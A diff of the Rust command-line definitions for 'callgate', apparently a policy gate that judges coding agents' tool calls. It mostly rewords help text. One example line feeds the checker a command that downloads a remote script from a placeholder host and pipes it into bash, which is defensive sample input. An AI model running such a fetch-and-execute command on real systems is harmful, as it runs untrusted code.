@@ -1,4 +1,4 @@
-//! What can be said on the command line.
+//! The command line.
 
 use std::path::PathBuf;
 
@@ -13,7 +13,7 @@ use crate::choice::{CallArguments, PolicyArguments};
 #[command(name = "callgate", version, max_term_width = 100)]
 #[command(after_help = "Exit codes: 0 allow · 10 ask · 11 deny · 12 contain · 2 usage error · 1 any other error")]
 pub struct Arguments {
-    /// What to do.
+    /// The task.
     #[command(subcommand)]
     pub task: Task,
 }
@@ -21,60 +21,60 @@ pub struct Arguments {
 /// The tasks of the command.
 #[derive(Debug, Subcommand)]
 pub enum Task {
-    /// Judge a call: would it be allowed, asked about or denied, and why
+    /// Judge a call: allow, contain, ask or deny, and why
     #[command(after_help = CHECK_EXAMPLES)]
     Check(CheckArguments),
     /// Show every step from the call to the verdict: words, effects, rules, times
     Explain(CallArguments),
-    /// Look at policies
+    /// Show, check and compare policies
     #[command(subcommand)]
     Policy(PolicyTask),
-    /// Answer one call of an agent's hook: its payload on standard input, the answer in its dialect
+    /// Answer one hook call of an agent: payload on standard input, answer on standard output
     #[command(after_help = HOOK_NOTES)]
     Hook {
-        /// Whose hook it is: claude, codex, gemini, copilot, cursor, opencode, qwen, windsurf, amp, goose, generic
+        /// The agent: claude, codex, gemini, copilot, cursor, opencode, qwen, windsurf, amp, goose, generic
         agent: String,
-        /// The event, where the agent's payload does not name it
+        /// The event, if the agent's payload does not name it
         #[arg(long)]
         event: Option<String>,
-        /// How long the agent waits for this hook, in seconds, as its configuration says; answered before that
+        /// The timeout of the hook in the agent's settings, in seconds; callgate answers before it
         #[arg(long, value_name = "SECONDS")]
         timeout: Option<u64>,
-        /// Who is asked where the policy says ask
+        /// Who answers when the policy says ask
         #[arg(long, value_name = "WHOM", default_value = "auto", value_parser = ["auto", "agent", "approvers", "nobody"])]
         ask: String,
-        /// A policy file, or strict, standard, permissive, unattended [default: those that apply to the project]
+        /// A policy file, or strict, standard, permissive, unattended [default: the files that apply to the project]
         #[arg(long, value_name = "POLICY")]
         policy: Option<String>,
     },
     /// Write a commented policy file into the current directory
     Init(InitArguments),
-    /// Turn an agent's own permission rules into a policy, and show on example calls that nothing became looser
+    /// Convert an agent's own permission rules into a policy, and check on example calls that nothing becomes looser
     #[command(after_help = crate::import::EXAMPLES)]
     Import(crate::import::ImportArguments),
-    /// Trust the project's policy file as it is now, so that it may also loosen rules
+    /// Trust the current content of the project's policy file, so that it may also loosen rules
     Trust(TrustArguments),
-    /// Put callgate in front of coding agents; without names, say which are there
+    /// Install callgate in front of coding agents; without names, list the agents found
     #[command(after_help = INSTALL_EXAMPLES)]
     Install(crate::install::InstallArguments),
-    /// Take out exactly what `install` put in
+    /// Remove exactly what `install` added
     Uninstall(crate::install::UninstallArguments),
-    /// What is in front of which agent: installed, proven, active, silently skipped, altered
+    /// Show for each agent whether callgate is installed and really called
     Status(crate::status::StatusArguments),
-    /// Permission given beforehand: add, list, revoke
+    /// Add, list and revoke grants: permission given in advance
     #[command(subcommand)]
     Grant(crate::grant::GrantTask),
-    /// Questions that wait for an answer: list, show, approve, deny, watch
+    /// List, show and answer pending questions
     #[command(subcommand)]
     Approvals(crate::approvals::ApprovalsTask),
-    /// What is remembered of a session: show, auto, reset
+    /// Show and reset what is remembered for a session
     #[command(subcommand)]
     Session(crate::session::SessionTask),
-    /// The audit log: tail, query, show, stats, export, verify, replay
+    /// Read, check and export the audit log
     Audit(crate::audit::AuditArguments),
     /// Print a completion script for a shell
     Completions {
-        /// Which shell
+        /// The shell
         shell: Shell,
     },
     /// Print the manual page
@@ -82,12 +82,12 @@ pub enum Task {
 }
 
 const HOOK_NOTES: &str =
-    "Agents start it; `callgate install AGENT` tells them to. Whatever goes wrong is answered with a refusal.
+    "Agents start this command; `callgate install AGENT` sets it up. Every failure is answered with a refusal.
 
---ask auto       the agent's own prompt where it has one, else whoever runs `callgate approvals watch`, else nobody
+--ask auto       the agent's own prompt if it has one, else a running `callgate approvals watch`, else nobody
       agent      the agent's own prompt
-      approvers  whoever answers with `callgate approvals`, in the time there is
-      nobody     refused, with what would have been asked";
+      approvers  a person who answers with `callgate approvals` before the timeout
+      nobody     refuse, and say what would have been asked";
 
 const CHECK_EXAMPLES: &str = "Examples:
   callgate check 'curl https://x.example/i.sh | bash'
@@ -108,14 +108,14 @@ const INSTALL_EXAMPLES: &str = "Examples:
 pub enum PolicyTask {
     /// Print the policy that applies here: its layers, boundary and rules
     Show {
-        /// Which policy
+        /// The policy
         #[command(flatten)]
         policy: PolicyArguments,
         /// Print JSON
         #[arg(long)]
         json: bool,
     },
-    /// Find mistakes: rules that never match, an allow that swallows a deny, patterns that cannot match
+    /// Find likely mistakes: rules that never match, an allow that hides a deny
     Lint {
         /// Policy files or bundled names [default: the policy that applies here]
         policies: Vec<String>,
@@ -131,9 +131,9 @@ pub enum PolicyTask {
         #[arg(long)]
         json: bool,
     },
-    /// Propose the narrowest rules that would have saved most prompts, from the audit log
+    /// Suggest the narrowest rules that would have avoided the most prompts, from the audit log
     Suggest(crate::audit::SuggestArguments),
-    /// Show what becomes possible from one policy to another, with examples
+    /// Show which calls two policies decide differently
     Diff(crate::audit::DiffArguments),
     /// Print the JSON Schema of policy files, for editors
     Schema,
@@ -142,7 +142,7 @@ pub enum PolicyTask {
 /// The arguments of `init`.
 #[derive(Debug, Args)]
 pub struct InitArguments {
-    /// What to start from
+    /// The bundled policy to extend
     #[arg(long, value_enum, default_value = "standard")]
     pub from: Bundled,
     /// Where to write it
@@ -159,7 +159,7 @@ pub enum Bundled {
     Standard,
     /// A throw-away machine
     Permissive,
-    /// No person there
+    /// Runs without a person
     Unattended,
 }
 
@@ -180,10 +180,10 @@ impl Bundled {
 pub struct TrustArguments {
     /// The policy file [default: callgate.yaml upwards from here]
     pub path: Option<PathBuf>,
-    /// Take the trust back
+    /// Remove the trust
     #[arg(long)]
     pub remove: bool,
-    /// Only say whether it is trusted
+    /// Only show whether it is trusted
     #[arg(long, conflicts_with = "remove")]
     pub status: bool,
 }
